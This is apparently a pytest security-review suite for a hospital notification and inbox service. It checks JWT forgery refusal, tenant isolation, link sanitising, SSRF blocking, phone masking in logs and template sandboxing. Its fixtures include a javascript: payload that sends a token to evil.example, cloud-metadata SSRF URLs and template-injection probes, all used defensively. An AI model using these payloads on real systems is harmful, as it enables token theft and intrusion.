"""The security review before the hospital (等保 / PIPL): what an attacker or an auditor tried.

Each test guards what held (one person's token never reaches another's messages, one client's
key never another's records) or what the review found and was fixed: code in inbox links, SSRF
through webhook URLs, event data in link URLs, OTP codes across clients, phones in provider
answers and log lines, weak console passwords and long sessions, a view-only user revoking API
keys, templates exhausting a worker, API answers without Cache-Control.
"""

import io
import json
import logging
import time
from datetime import timedelta

import jwt
import pytest
from django.conf import settings
from django.contrib.auth.models import User
from django.contrib.auth.password_validation import validate_password
from django.core.exceptions import ValidationError
from django.db import transaction
from django.utils import timezone
from rest_framework.test import APIClient

from channels.masking import scrub
from channels.otp import otp_issue
from inbox import answers
from inbox.answers import answer_for_platform, message_answer
from inbox.models import InboxMessage
from inbox.services import inbox_message_put
from notifycenter import logs
from notifycenter.logs import ContextIds, JsonFormatter
from scenarios.rendering import RenderError, render_link, render_text
from tests.clients import backend_client, inbox_client

pytestmark = pytest.mark.django_db

PHONE = "13912345678"


def put(audience="patient", recipient_id="p-42", *, link=None, actions=None, key="m") -> InboxMessage:
    return inbox_message_put(
        audience=audience,
        recipient_id=recipient_id,
        title="问诊支付成功",
        body="正文",
        category="consultation",
        link=link or {},
        actions=actions or [],
        source_key=f"{audience}:{recipient_id}:{key}",
    )[0]


def bearer(claims: dict, key: str | None = None, algorithm: str = "HS256") -> APIClient:
    api = APIClient()
    token = jwt.encode(claims, key or settings.INBOX_JWT["SECRET"], algorithm=algorithm)
    api.credentials(HTTP_AUTHORIZATION=f"Bearer {token}")
    return api


# --- Authorization: one person's token, one client's key ------------------------------------


def test_a_patient_token_reaches_no_one_elses_message():
    theirs = put(recipient_id="p-other", actions=[{"key": "view", "label": "查看", "link": {}}])
    doctors = put("doctor", "d-17", key="d")
    same_id_other_role = put("doctor", "p-42", key="x")  # a doctor whose id is the patient's
    me = inbox_client("patient", "p-42")

    for message in (theirs, doctors, same_id_other_role):
        assert me.post(f"/api/v1/inbox/messages/{message.pk}/read").status_code == 404
        assert me.delete(f"/api/v1/inbox/messages/{message.pk}").status_code == 404
        assert me.post(f"/api/v1/inbox/messages/{message.pk}/actions/view").status_code == 404
    ids = [theirs.pk, doctors.pk, same_id_other_role.pk]
    for action in ("seen", "read", "archive"):
        assert me.post("/api/v1/inbox/mark", {"action": action, "ids": ids}, format="json").json() == {"marked": 0}
    assert me.get("/api/v1/inbox/messages").json()["results"] == []
    untouched = InboxMessage.objects.filter(pk__in=ids)
    assert all(m.read_at is None and m.archived_at is None and m.deleted_at is None for m in untouched)


def test_an_app_token_cannot_use_the_backends_on_behalf_paths():
    put(recipient_id="p-other")
    me = inbox_client("patient", "p-42")

    for path in ("/api/v1/inbox/patient/p-other/messages", "/api/v1/inbox/doctor/d-17/unread-count"):
        answer = me.get(path)
        assert answer.status_code == 403
        assert answer.json()["code"] == "missing_scope"


@pytest.mark.parametrize(
    ("claims", "key", "algorithm", "code"),
    [
        ({"exp": -60}, None, "HS256", "token_expired"),
        ({"aud": "another-service"}, None, "HS256", "token_wrong_audience"),
        ({}, "an-attackers-guess-at-the-secret-0123456789", "HS256", "token_invalid"),
        ({}, None, "HS512", "token_invalid"),  # only the configured algorithm
        ({"role": "operations"}, None, "HS256", "token_invalid"),  # not an app user's role
        ({"nbf": 3600}, None, "HS256", "token_invalid"),
        ({"exp": 10 * 365 * 86400}, None, "HS256", "token_invalid"),  # valid for ten years
        ({"iat": -40 * 86400, "exp": 86400}, None, "HS256", "token_invalid"),  # a 41-day token, a day left
    ],
)
def test_forged_expired_and_misdirected_tokens_are_refused(claims, key, algorithm, code):
    now = int(time.time())
    base = {"sub": "p-other", "role": "patient", "aud": settings.INBOX_JWT["AUDIENCE"], "exp": now + 600}
    claims = {**base, **{k: now + v if k in ("exp", "nbf", "iat") else v for k, v in claims.items()}}

    answer = bearer(claims, key, algorithm).get("/api/v1/inbox/messages")

    assert answer.status_code == 401
    assert answer.json()["code"] == code


@pytest.mark.parametrize("days", [1, 29])
def test_a_token_within_the_longest_lifetime_is_taken(days):
    now = int(time.time())
    claims = {"sub": "p-other", "role": "patient", "aud": "notifycenter", "iat": now, "exp": now + days * 86400}

    assert bearer(claims, None, "HS256").get("/api/v1/inbox/messages").status_code == 200


def test_the_longest_lifetime_can_be_lifted(settings):
    settings.INBOX_JWT = {**settings.INBOX_JWT, "MAX_LIFETIME_HOURS": 0}
    claims = {"sub": "p-other", "role": "patient", "aud": "notifycenter", "exp": int(time.time()) + 10 * 365 * 86400}

    assert bearer(claims, None, "HS256").get("/api/v1/inbox/messages").status_code == 200


def test_a_ten_year_token_is_refused_on_the_live_stream_too():
    from inbox.live import LiveError
    from notifycenter.asgi import live_person

    token = jwt.encode(
        {"sub": "p-42", "role": "patient", "aud": "notifycenter", "exp": timezone.now() + timedelta(days=3650)},
        settings.INBOX_JWT["SECRET"],
        algorithm="HS256",
    )
    with pytest.raises(LiveError) as refused:
        live_person(token)
    assert refused.value.code == "token_invalid"
    assert "INBOX_JWT_MAX_LIFETIME_HOURS" in str(refused.value)


def test_issue_inbox_token_refuses_a_lifetime_the_service_would_refuse():
    from django.core.management import CommandError, call_command

    with pytest.raises(CommandError, match="at most 720"):
        call_command("issue_inbox_token", "--role", "patient", "--id", "p-42", "--hours", "800")


def test_a_token_signed_with_alg_none_is_refused():
    claims = {"sub": "p-other", "role": "patient", "aud": "notifycenter", "exp": int(time.time()) + 600}
    token = jwt.encode(claims, None, algorithm="none")
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Bearer {token}")

    assert api.get("/api/v1/inbox/messages").json()["code"] == "token_invalid"


def test_a_clients_key_reaches_neither_another_clients_records_nor_scopes_it_lacks(catalog):
    a = backend_client(client="his-a", scopes=("events", "webhooks"))
    b = backend_client(client="his-b", scopes=("events", "webhooks"))
    events_only = backend_client(client="his-a", scopes=("events",))
    created = a.post(
        "/api/v1/webhooks",
        {"url": "https://his-a.hospital.example/hook", "secret": "s" * 20, "events": ["delivery.sent"]},
        format="json",
    ).json()
    from tests.factories import paid_event

    event = a.post("/api/v1/events", paid_event(), format="json").json()

    assert b.get("/api/v1/webhooks").json() == []
    assert b.delete(f"/api/v1/webhooks/{created['id']}").status_code == 404
    assert b.get(f"/api/v1/events/{event['event_id']}").status_code == 404
    assert events_only.get("/api/v1/webhooks").json()["code"] == "missing_scope"
    assert events_only.get("/api/v1/inbox/patient/p-42/messages").json()["code"] == "missing_scope"
    assert events_only.get("/api/v1/recipients/patient/p-42/preferences").status_code == 403
    assert "secret" not in json.dumps(a.get("/api/v1/webhooks").json())


# --- Inbox links that would run code in the app (fixed: inbox/answers.py) -------------------

EVIL = {
    "target": "inquiry_detail",
    "route": "inquiry_detail",
    "params": {"inquiry_id": "9001"},
    "h5": 'javascript:fetch("//evil.example/"+localStorage.token)',
    "app": " JaVa\tScRiPt:alert(1)",
    "mini_program": "/pages/inquiry/detail?inquiryId=9001",
}


@pytest.mark.parametrize("url", ["javascript:alert(1)", "\x01 java\nscript:x", "DATA:text/html,<script>", "vbscript:x"])
def test_urls_that_run_code_are_unsafe(url):
    assert not answers.url_is_safe(url)


@pytest.mark.parametrize(
    "url",
    ["https://m.hospital.example/x?a=javascript:1", "/pages/im/index?id=1", "hospitalpatient://inquiry/9001", ""],
)
def test_page_urls_and_deep_links_are_safe(url):
    assert answers.url_is_safe(url)


def test_an_inbox_link_that_would_run_code_is_answered_as_no_link():
    message = put(link=EVIL, actions=[{"key": "view", "label": "查看", "style": "primary", "link": EVIL}])
    me = inbox_client("patient", "p-42")

    listed = me.get("/api/v1/inbox/messages?platform=h5").json()["results"][0]
    every = me.get("/api/v1/inbox/messages").json()["results"][0]
    read = me.post(f"/api/v1/inbox/messages/{message.pk}/read?platform=app").json()

    assert listed["link"]["url"] == "" and listed["actions"][0]["link"]["url"] == ""
    assert every["link"]["h5"] == "" and every["link"]["app"] == ""
    assert every["link"]["mini_program"] == "/pages/inquiry/detail?inquiryId=9001"
    assert read["link"]["url"] == ""
    assert "javascript" not in json.dumps([listed, every, read]).lower().replace("\t", "")


def test_a_live_event_stored_with_such_a_link_is_sent_without_it():
    stored = {**message_answer(put()), "link": EVIL}  # as an event row written before the fix holds it

    for platform in (None, "h5", "app"):
        sent = json.dumps(answer_for_platform(stored, platform)).lower()
        assert "javascript" not in sent.replace("\\t", "")


# --- Personal data in provider answers and logs (fixed: channels/masking.py, notifycenter/logs.py)


def test_a_phone_kept_with_its_country_code_is_masked_in_every_form_a_provider_echoes():
    answer = {"PhoneNum": PHONE, "PhoneNumber": f"+86{PHONE}", "Mobile": f"86{PHONE}"}

    for address in (f"+86{PHONE}", PHONE):
        assert PHONE not in json.dumps(scrub(answer, address, "sms"))


def test_a_wecom_user_among_several_is_masked():
    assert "zhangsan" not in json.dumps(scrub({"invaliduser": "zhangsan"}, "lisi|zhangsan", "wecom_app"))


def _log_through_the_console_handler(formatter) -> str:
    out = io.StringIO()
    handler = logging.StreamHandler(out)
    handler.addFilter(ContextIds())
    handler.setFormatter(formatter)
    log = logging.getLogger("tests.security_review")
    log.addHandler(handler)
    log.propagate = False
    try:
        log.warning("provider refused %s: invalid number", f"+86{PHONE}")
        try:
            raise ValueError(f"no such number {PHONE[:3]} {PHONE[3:7]} {PHONE[7:]}")
        except ValueError:
            log.exception("delivery 7: send raised")
    finally:
        log.removeHandler(handler)
        log.propagate = True
    return out.getvalue()


@pytest.mark.parametrize("formatter", [JsonFormatter(), logging.Formatter("%(levelname)s %(message)s")])
def test_no_full_phone_number_reaches_a_log_line(formatter):
    written = _log_through_the_console_handler(formatter)

    assert "139****5678" in written
    assert PHONE not in written.replace(" ", "")
    assert "ValueError" in written  # the traceback is still there


def test_digits_that_are_not_a_phone_stay_in_the_logs():
    text = "delivery 12345678901 at 1796086251240, order 113912345678"
    assert logs.mask_phones(text) == text


# --- Caching of API answers (fixed: notifycenter/middleware.py) ------------------------------


def test_api_answers_are_not_kept_by_caches():
    put()
    me = inbox_client("patient", "p-42")

    assert me.get("/api/v1/inbox/messages")["Cache-Control"] == "no-store"
    assert me.get("/api/v1/inbox/unread-count")["Cache-Control"] == "private, no-cache"  # the view's own
    assert APIClient().get("/api/v1/inbox/messages")["Cache-Control"] == "no-store"


# --- Defects in files the review did not own: the fix is in the report ---------------------


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1:6379/",
        "http://169.254.169.254/latest/meta-data/",
        "http://localhost:5432/",
        "http://[::1]:8000/api/v1/events",
        "http://0.0.0.0:8000/",
    ],
)
def test_a_webhook_cannot_aim_at_the_center_itself_or_the_metadata_service(url, settings):
    settings.WEBHOOK_ALLOW_INTERNAL_URLS = False  # as in production (the test settings allow them)
    hooks = backend_client(client="his-a", scopes=("webhooks",))

    answer = hooks.post(
        "/api/v1/webhooks", {"url": url, "secret": "s" * 20, "events": ["delivery.sent"]}, format="json"
    )

    assert answer.status_code == 400
    assert "url" in answer.json()["fields"]


def test_a_link_target_refuses_urls_that_run_code(catalog):
    from scenarios.models import LinkTarget

    target = LinkTarget.objects.get(code="inquiry_detail")
    target.h5_url = "javascript:fetch('//evil.example/'+localStorage.token)//{inquiry_id}"

    with pytest.raises(ValidationError):
        target.full_clean()


def test_event_data_cannot_add_parameters_to_a_link(catalog):
    from scenarios.models import LinkTarget

    target = LinkTarget.objects.get(code="inquiry_detail")

    link = render_link(target, {"inquiry_id": "9001&next=https://evil.example/#"}, audience="patient")

    assert "&next=" not in link["h5"]
    assert "9001%26next%3D" in link["h5"]


def test_a_client_cannot_check_or_lock_another_clients_code():
    with transaction.atomic():
        otp_issue(phone=PHONE, purpose="point.withdrawal_requested")
    other = backend_client(client="his-b", scopes=("otp",))

    answer = other.post(
        "/api/v1/otp/verify",
        {"phone": PHONE, "purpose": "point.withdrawal_requested", "code": "000000"},
        format="json",
    )

    assert answer.json()["code"] == "otp_not_found"


@pytest.mark.parametrize("password", ["zhangwei2026", "73918264"])
def test_console_passwords_like_the_user_name_or_all_digits_are_refused(password):
    user = User(username="zhangwei2026", email="zhangwei@hospital.example")

    with pytest.raises(ValidationError):
        validate_password(password, user)


def test_a_console_session_ends_after_half_an_hour_idle():
    assert settings.SESSION_COOKIE_AGE <= 30 * 60
    assert settings.SESSION_SAVE_EVERY_REQUEST


@pytest.mark.parametrize("source", ['{{ "a" * 20000000 }}', "{{ range(10**9) | list }}"])
def test_an_operations_template_cannot_exhaust_a_worker(source):
    with pytest.raises(RenderError):
        render_text(source, {}, field="body")


def test_an_operations_template_reads_no_settings_and_runs_no_code():
    for source in (
        "{{ self.__init__.__globals__ }}",
        "{{ cycler.__init__.__globals__.os }}",
        "{{ lipsum.__globals__ }}",
        "{{ ''.__class__.__mro__ }}",
        "{{ settings.SECRET_KEY }}",
        "{{ config }}",
    ):
        with pytest.raises(RenderError):
            render_text(source, {"x": "1"}, field="body")


def test_an_expired_token_is_refused_on_the_live_stream_too():
    from notifycenter.asgi import live_person

    expired = jwt.encode(
        {"sub": "p-42", "role": "patient", "aud": "notifycenter", "exp": timezone.now() - timedelta(minutes=5)},
        settings.INBOX_JWT["SECRET"],
        algorithm="HS256",
    )
    from inbox.live import LiveError

    with pytest.raises(LiveError) as refused:
        live_person(expired)
    assert refused.value.code == "token_expired"


def test_a_user_who_may_only_view_api_keys_cannot_revoke_them(client):
    from django.contrib.auth.models import Permission

    from notifycenter.models import ApiKey

    key, _ = ApiKey.generate(client="his", name="prod", scopes=["events"])
    viewer = User.objects.create_user("viewer", password="a-long-Passphrase-2026", is_staff=True)
    viewer.user_permissions.add(Permission.objects.get(codename="view_apikey"))
    client.force_login(viewer)

    client.post("/admin/notifycenter/apikey/", {"action": "revoke", "_selected_action": [key.pk], "index": "0"})

    key.refresh_from_db()
    assert key.is_active


def test_a_masked_log_line_keeps_its_arguments_for_formatters_that_read_them():
    record = logging.LogRecord(
        "uvicorn.access", logging.INFO, __file__, 1, '%s - "%s %s"', ("1.2.3.4", "GET", f"/admin/?q={PHONE}"), None
    )

    ContextIds().filter(record)

    assert record.args == ("1.2.3.4", "GET", "/admin/?q=139****5678")
    assert record.getMessage() == '1.2.3.4 - "GET /admin/?q=139****5678"'
